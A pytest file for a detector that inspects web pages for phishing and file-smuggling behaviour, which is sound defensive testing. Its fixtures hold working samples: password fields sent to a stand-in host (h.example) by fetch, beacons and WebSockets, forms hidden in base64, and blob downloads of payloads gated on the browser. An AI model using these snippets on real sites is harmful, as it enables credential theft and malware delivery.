"""What the scripts of a page do when it is opened."""

from __future__ import annotations

import base64
from dataclasses import replace

import pytest

from gateway.extract.base import Child
from gateway.extract.effort import Stage
from gateway.extract.page.code import active
from gateway.extract.page.html import parse
from gateway.extract.page.played import Act, Play
from gateway.extract.page.played import play as played
from gateway.model.content import Observation, Text

WORDS = "<p>" + "There is something to read here. " * 40
OFFERS = "<script>l.href=URL.createObjectURL(new Blob([new Uint8Array(u)]))</script>"
WRITER = "<script>a.href=URL.createObjectURL(new Blob([x]));a.click()</script>"


def acts(source: str) -> dict[str, str]:
    return {i.code: i.detail for i in active(parse(source), source) if isinstance(i, Observation)}


def test_forms_hidden_in_code():
    form = "<form action=https://h.example/p><input type=password name=p></form>"
    for coded in (f"atob('{base64.b64encode(form.encode()).decode()}')", "unescape('" + "".join(f"%{ord(c):02x}" for c in form) + "')"):
        assert "HTML-HIDDEN-FORM" in acts(f"<script>document.write({coded})</script>")
    assert "HTML-HIDDEN-FORM" not in acts(f"<script>document.write('{form}')</script>{form}")


@pytest.mark.parametrize(("markup", "asked"), [
    ("<input name=p type=password>", True), ("<INPUT id=a TYPE = 'Password'>", True), ("<input type=text><p>type=password", False),
    ("<b type=password>", False), ("<input " * 60 + "type=password>", True), ("type=password " * 3000, False)])
def test_fields_for_passwords(markup, asked):
    assert ("HTML-PASSWORD" in acts(markup)) is asked


def test_declarations_that_give_elements_handlers():
    assert acts("<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"go()\">]><svg/>")["HTML-ENTITY"] == "markup"
    assert acts("<!DOCTYPE svg [<!ATTLIST a href CDATA #FIXED 'javascript:go()'>]><svg/>")["HTML-ENTITY"] == "markup"
    assert "HTML-ENTITY" not in acts("<!DOCTYPE svg [<!ATTLIST svg xmlns:a CDATA #FIXED 'http://www.w3.org/2000/svg'>]><svg/>")


XSL = "<d><xsl:stylesheet id='s' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>{}</xsl:stylesheet></d>"


@pytest.mark.parametrize(("source", "told"), [
    ("<?xml-stylesheet type='text/xsl' href='#s'?>" + XSL.format("<xsl:element name='{concat(\"scr\",\"ipt\")}'/>"), True),
    ("<?xml-stylesheet type='text/xsl' href='#s'?>" + XSL.format("<xsl:text disable-output-escaping='yes'>x</xsl:text>"), True),
    ("<?xml-stylesheet type='text/xsl' href='#s'?>" + XSL.format("<table><xsl:value-of select='a'/></table>"), False),
    ("<?xml-stylesheet type='text/xsl' href='kousei.xsl'?><DOC>x</DOC>", False),
    ("<?xml-stylesheet type='text/xsl' href='https://h.invalid/a.xsl'?><svg/>", True),
    ("<?xml-stylesheet type='text/css' href='a.css'?><svg/>", False)])
def test_style_sheets_that_make_another_document(source, told):
    assert (acts(source).get("HTML-ENTITY") == "sheet") is told


def test_entities_that_bring_markup():
    assert acts("<!DOCTYPE html [<!ENTITY p '<script>x</script>'>]><html>&p;")["HTML-ENTITY"] == "markup"
    assert acts("<!DOCTYPE book [<!ENTITY c SYSTEM 'c.xml'>]><book>&c;</book>")["HTML-ENTITY"] == ""


def test_packed_scripts_are_read():
    source = "<script>eval(function(p,a,c,k,e,d){return p}('0(1)',10,2,'alert|document'.split('|')))</script>"
    (text,) = (i.content for i in active(parse(source), source) if isinstance(i, Text))
    assert text.endswith("\nalert(document)")


def test_much_of_a_small_page():
    literal = "".join(chr(97 + n * 7 % 26) for n in range(400))
    assert "HTML-MOSTLY-LITERAL" in acts(f"<script>a='{literal}';{'go(a);' * 100}</script>")
    assert "HTML-MOSTLY-LITERAL" not in acts(f"<script>a='{literal}';{'go(a);' * 300}</script>")
    saves = ("<button onclick=go()>Add</button><script>function go(){l=document.createElement('a');"
             f"l.href='data:text/plain,{literal}';l.click()}}</script>")
    made = Play((Act("file", "click", "clicks m.txt", base64.b64encode(literal.encode()).decode()),), ended=True)
    for told, mostly in ((None, True), (made, False), (replace(made, ended=False), True), (replace(made, acts=()), True)):
        found = {i.code for i in active(parse(saves), saves, told) if isinstance(i, Observation)}
        assert ("HTML-MOSTLY-LITERAL" in found) is mostly


@pytest.mark.parametrize("source", [
    "<i a='" * 200_000 + WRITER, "<i a=b " * 200_000 + WRITER, "<script" * 200_000 + WRITER, "<style" * 200_000 + WRITER, "<noscript" * 200_000,
    "<a" * 400_000 + OFFERS, "<a on " * 200_000 + OFFERS, "<!ATTLIST a " * 100_000, "<!ATTLIST " + "a " * 400_000,
    "<?xml-stylesheet href='#'" * 40_000, "<?xml-stylesheet href='#'>" + "<xsl:element name='a" * 60_000, "ab, " * 150_000 + OFFERS,
    "ab cdef " * 80_000 + OFFERS, "-webkit-text-security:" * 60_000, "<p>" + "\uac00" * 400_000 + OFFERS,
    " a=" * 400_000 + WRITER, "<script>" + "location =" * 200_000 + "</script>",
])
def test_hostile_pages_are_linear(source):
    list(active(parse(source), source))


MAKES = "for(i=0;i<s.length;i++)u[i]=s.charCodeAt(i);l.href=URL.createObjectURL(new Blob([u]))"


@pytest.mark.parametrize(("source", "play", "unseen"), [
    (f"<script>{MAKES}</script>", None, True), (f"<script>{MAKES}</script>", Play(), True), (f"<script>{MAKES}</script>", Play(ended=True), True),
    (f"<script>{MAKES}</script>", Play((Act("file", "click", "clicks a.csv", ""),), ended=True), False),
    (f"<script>{MAKES}</script>", Play((Act("file", "click", "clicks a.csv", ""), Act("died", "load", "Error", "")), ended=True), True),
    (f"{WORDS}<script>{MAKES}</script>", None, False), (f"<script>{MAKES}{'(function(a){return a})();' * 40}</script>", None, False),
    (f"<script>{MAKES}</script>", Play(shown="Orders of the month by branch. " * 5, ended=True), False),
    (f"<script>{MAKES}</script>", Play(shown="Orders of the month by branch. " * 5), True),
    ("<script>l.href=URL.createObjectURL(b)</script>", None, False)])
def test_files_that_a_page_with_nothing_to_read_makes_unseen(source, play, unseen):
    assert ("HTML-FILE-UNSEEN" in {i.code for i in active(parse(source), source, play) if isinstance(i, Observation)}) is unseen


ASKS = "<input type=password name=p>"


@pytest.mark.parametrize(("source", "play", "sent"), [
    (f"<form action=https://h.example/p>{ASKS}</form>", None, True), (f"<form action=login.php>{ASKS}</form>", None, False),
    (f"<form>{ASKS}</form>", Play((Act("asks", "click", "https://h.example/", "fetch"),)), True),
    (f"<form>{ASKS}<button formaction=https://h.example/p></form>", None, True), (f"<base href=//h.example/><form action=login.php>{ASKS}</form>", None, True),
    (f"<form action='\\/h.example/p'>{ASKS}</form>", None, True), (f"<base target=_top><form>{ASKS}</form>", None, False),
    (f"<form>{ASKS}<input type=image src=https://h.example/a.png></form>", None, False),
    (f"<form action='mailto:a@h.example'>{ASKS}</form>", None, True),
    (f"<form>{ASKS}</form>", Play((Act("asks", "load", "https://h.example/", "fetch"),)), False),
    (f"<form action=https://h.example/p>{ASKS}</form>{WORDS}", None, False)])
def test_passwords_that_are_sent_away(source, play, sent):
    assert ("HTML-PASSWORD-SENT" in {i.code for i in active(parse(source), source, play) if isinstance(i, Observation)}) is sent


SPEAKS = "<p>Enter your online banking PIN</p>"


@pytest.mark.parametrize(("source", "sent"), [
    (f"{SPEAKS}<form action=https://h.example/p><input name=a></form>", True), ("<p>Password</p><input id=a><script>b.onclick=()=>fetch('https://h.example/'+a.value)"
     "</script><button id=b>x</button>", True),
    (f"{SPEAKS}<table><tr><td>1</td><td>2</td></tr></table><script>let q='';document.querySelectorAll('td').forEach(t=>t.onclick=()=>"
     "{q+=t.textContent;if(q.length==2)fetch('https://h.example/'+q)})</script>", True),
    ("<canvas></canvas><script>let q='';document.querySelector('canvas').getContext('2d').fillText('\u5bc6\u7801',1,1);"
     "addEventListener('keydown',e=>{if(e.key=='Enter')new Image().src='https://h.example/'+q;else q+=e.key})</script>", True),
    ("<p>Forgot your password?</p><form action=https://h.example/s><input type=search name=q><button>Search</button></form>", False),
    ("<p>Your password was changed.</p><form action=https://h.example/s><input type=hidden name=q><input type=email><button>Stop</button></form>", False),
    ("<p>Your name</p><form action=https://h.example/s><input name=q></form>", False), (f"{SPEAKS}<form action=a.php><input name=a></form>", False),
    (f"{SPEAKS}{WORDS}<form action=https://h.example/p><input name=a></form>", False), ("<p>PIN code (ZIP)</p><form action=https://h.example/p><input name=a></form>", False),
])
def test_pages_that_speak_of_a_password_and_send_what_is_typed(source, sent):
    codes = {i.code for i in active(parse(source), source, played(source, Stage())) if isinstance(i, Observation)}
    assert ("HTML-PASSWORD-SENT" in codes, "HTML-PASSWORD" in codes) == (sent, sent)


def test_fields_that_say_themselves_what_they_are_for():
    form = "<form action=https://h.example/b><input name=k placeholder={}><button>x</button></form>"
    for said in ("使用者密碼", "'Your password'", '"動態密碼 OTP"'):
        assert acts(form.format(said)).get("HTML-PASSWORD-SENT") == ""
    assert "HTML-PASSWORD" not in acts(form.format("'Your name'")) and "HTML-PASSWORD" not in acts("<p title='password'>x</p>")


def test_fields_that_are_cut_in_two():
    page = "<script>if(/Android/.test(a))f.innerHTML='<form action=https://h.example/p><input type={}></form>'</script>"
    assert acts(page.format("pass'+'word"))["HTML-HIDDEN-FORM"] == "cut" and "HTML-HIDDEN-FORM" not in acts(page.format("te'+'xt"))
    assert "HTML-HIDDEN-FORM" not in acts(page.format("password")) and "HTML-HIDDEN-FORM" not in acts("<p>type=pass'+'word</p>")


GATED = "<script>{}if({}){{a.href=URL.createObjectURL(new Blob([atob(D)]));a.download='a.dat';a.click()}}</script>"


@pytest.mark.parametrize(("before", "condition", "waits"), [
    ("D='{}';", "/Firefox/.test(navigator.userAgent)", True), ("D='{}';", "navigator.language=='en-US'", True),
    ("D='abc';", "/Firefox/.test(navigator.userAgent)", False), ("D='{}';", "1", False), ("n='run.bat';", "/Firefox/.test(navigator.userAgent)", True),
    ("q.download='a.js';D='abc';", "0", True), ("q={{download:'a.txt',src:'a.js'}};D='abc';", "0", False),
    ("D='abc';document.y.z;", "0", True), ("d=atob(PD);D='abc';", "0", True), ("d=load(PD);D='abc';", "0", False), ("D='QGVjaG8gb2ZmDQpzdGFydA==';", "0", True), ("D='getElementsByClassNameOfAll';", "0", False), ("D='www.firm.com';", "0", False),
    ("D='data:image/png;base64,{}';", "/Firefox/.test(navigator.userAgent)", False),
    ("D='{}';" + "function x(){{return 1}};" * 60, "/Firefox/.test(navigator.userAgent)", False),
])
def test_files_for_some_readers_only(before, condition, waits):
    source = WORDS + "<a id=a></a>" + GATED.format(before.format(base64.b64encode(bytes(range(60))).decode()), condition)
    made = {i.code for i in active(parse(source), source, played(source, Stage())) if isinstance(i, Observation)}
    assert ("HTML-FILE-WAITS" in made) == waits
    assert "HTML-FILE-WAITS" not in acts(source)


def test_links_that_save_what_they_hold_have_its_name():
    source = WORDS + "<a download='a.hta' href='data:text/plain;base64,eHh4eHh4eHh4eHh4eHh4eHh4'>x</a>"
    made = [i for i in active(parse(source), source) if isinstance(i, Child)]
    assert [(c.names, c.data) for c in made if c.names] == [(("a.hta",), b"x" * 18)]


@pytest.mark.parametrize(("markup", "given"), [
    ("<script>w=new WebSocket('wss://h.example/s')</script><input type=password oninput='w.send(value)'>", True),
    ("<input id=p type=password><button onclick=\"new Image().src='https://h.example/i?p='+encodeURIComponent(p.value)\">x</button>", True),
    ("<input id=p type=password><button onclick=\"navigator.sendBeacon('//h.example/i',new Blob([p.value]))\">x</button>", True),
    ("<div contenteditable id=p style='-webkit-text-security:disc'></div>"
     "<button onclick=\"fetch('https://h.example/',{method:'POST',body:p.innerText})\">x</button>", True),
    ("<input id=p type=password><button onclick=\"(new Image).src='https://h.example/t.gif?d='+btoa(p.value)\">x</button>", True),
    ("<form id=f><input name=p type=password></form><button onclick=\"x=new XMLHttpRequest;x.open('POST','https://h.example/');x.send("
     "new FormData(f))\">x</button>", True),
    ("<input id=p type=password><button onclick=\"fetch('https://h.example/count',{body:'pressed'})\">x</button>", False),
    ("<input id=p type=password><button onclick=\"fetch('/login',{body:p.value})\">x</button>", False),
    ("<input id=q><button onclick=\"fetch('https://h.example/?q='+q.value)\">x</button>", False),
    ("<form action=https://h.example/login method=post><input name=p type=password><button>x</button></form>", False)])
def test_passwords_that_a_script_gives_away_beside_much_to_read(markup, given):
    source = WORDS + markup
    codes = {i.code for i in active(parse(source), source, played(source, Stage())) if isinstance(i, Observation)}
    assert ("HTML-PASSWORD-SENT" in codes) is given


@pytest.mark.parametrize(("shows", "waits"), [
    ("f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([o]));document.body.append(f)", True),
    ("a.href=URL.createObjectURL(new Blob([o]));HTMLElement.prototype.click.call(a)", True),
    ("a.href=URL.createObjectURL(new Blob([o]));Reflect.apply(a.click,a,[])", True), ("a.href=URL.createObjectURL(new Blob([o]))", False)])
def test_files_from_where_the_player_has_none(shows, waits):
    source = (f"{WORDS}<a id=a></a><script>const o=Uint8Array.from(document.fonts.strangeThing.map(f=>atob(f)).join(''),c=>c.charCodeAt());"
              f"{shows}</script>")
    codes = {i.code for i in active(parse(source), source, played(source, Stage())) if isinstance(i, Observation)}
    assert ("HTML-FILE-WAITS" in codes) is waits
